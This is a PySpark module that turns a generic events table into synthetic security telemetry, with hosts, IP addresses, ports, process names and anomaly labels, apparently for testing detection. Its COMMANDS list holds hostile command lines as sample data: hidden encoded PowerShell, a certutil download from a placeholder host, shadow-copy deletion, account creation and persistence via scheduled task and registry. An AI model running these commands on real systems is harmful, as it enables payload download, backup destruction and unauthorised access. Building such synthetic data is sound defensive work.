"""Telemetry view of an ``events`` table: a pure projection, no shuffle."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from secflow.functions import predicates as p

COMMANDS = [
    "powershell.exe -nop -w hidden -enc SQBFAFgA",
    "schtasks /create /tn upd /tr c:\\temp\\a.exe",
    "nmap -sS 10.0.0.0/24",
    "certutil -urlcache -split -f http://dl.test/a.exe",
    "vssadmin delete shadows /all",
    "net user eve Secret1 /add",
    "wmic process call create calc.exe",
    "reg add HKCU\\software\\run /v a",
    "notepad.exe report.txt",
    "chrome.exe --flag",
    "python.exe job.py",
    "explorer.exe",
]
PROCESSES = ["cmd.exe", "powershell.exe", "svchost.exe", "chrome.exe", "python.exe", "C:\\bin\\whoami.exe",
             "C:\\bin\\hh.exe", "C:\\bin\\psexec.exe", "C:\\bin\\netstat.exe", "C:\\bin\\mshta.exe"]
PORTS = [443, 4444, 3389, 80, 22, 1337, 9050, 8443]


def _pick(values: list, index: str) -> str:
    return f"element_at(array({p.literals(values)}), cast({index} + 1 as int))"


_BASE = [
    "event_id", "cast(ts as timestamp) as ts", "user_id as u", "event_type as et", "value as v",
    "cast(regexp_extract(props, '([0-9]+)', 1) as bigint) as k",
]
_VIEW = [
    "event_id", "ts", "u", "k", "v", "et as event_type",
    "case et when 'error' then 'auth' when 'signup' then 'sysmon' when 'purchase' then 'firewall' "
    "when 'click' then 'netflow' when 'view' then 'web' end as source",
    "case et when 'error' then 'authentication' when 'signup' then 'process' when 'purchase' then 'network' "
    "when 'click' then 'network' when 'view' then 'web' end as category",
    "case et when 'error' then 'user_login' when 'signup' then 'process_create' when 'purchase' then 'allow' "
    "when 'click' then 'network_flow' when 'view' then 'get' end as action",
    f"concat({_pick(['SRV-', 'DB-', 'WKS-', 'PC-'], 'u % 4')}, u % 20) as host",
    "case when et in ('purchase', 'click') and k % 7 = 0 then null else concat('u', u) end as user",
    "case when k % 10 = 0 then concat('203.0.113.', k) else concat('10.0.', u div 250, '.', u % 250) end as src_ip",
    "case when k % 9 = 0 then concat('198.51.100.', k) else concat('10.1.0.', k % 50) end as dst_ip",
    f"cast(case et when 'purchase' then {_pick(PORTS, 'k % 8')} when 'click' then k + 1 end as int) as dst_port",
    "case et when 'purchase' then floor(v * 1000000) when 'click' then floor(v * 1000) end as bytes_out",
    "case et when 'purchase' then floor(v * 100) when 'click' then k end as bytes_in",
    f"case et when 'signup' then {_pick(COMMANDS, 'k % 12')} when 'view' then concat('/p?k=', k) end as command_line",
    f"case et when 'signup' then {_pick(PROCESSES, 'k % 10')} end as process_name",
    "case when et = 'signup' and k % 3 = 0 then 'explorer.exe' when et = 'signup' and k % 3 = 1 "
    "then 'winword.exe' end as parent_process",
    "case when et = 'signup' then md5(cast(concat('f', k % 25) as binary)) end as md5",
    "case et when 'error' then if(k < 80, 'failure', 'success') when 'view' then if(k % 5 = 0, '404', '200') "
    "else 'success' end as outcome",
    "if((et = 'signup' and k % 12 in (0, 1, 4, 6) and v > 20) or (et = 'purchase' and k % 8 in (1, 3) and v > 50) "
    "or (et = 'error' and k % 10 = 0), 1, 0) as label",
    "case et when 'signup' then 'Execution' when 'purchase' then 'Backdoor' when 'error' then 'Credential' "
    "when 'click' then 'Flow' when 'view' then 'Web' end as attack_cat",
    "round((k * 37 % 101) * 0.006D + if(v > 120, 0.25D, 0.1D), 4) as anomaly_score",
]


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Read ``events`` as security telemetry (``queries/tables.py`` holds the same view for checks)."""
    return spark.read.parquet(f"{sf_dir}/events.parquet").selectExpr(*_BASE).selectExpr(*_VIEW)
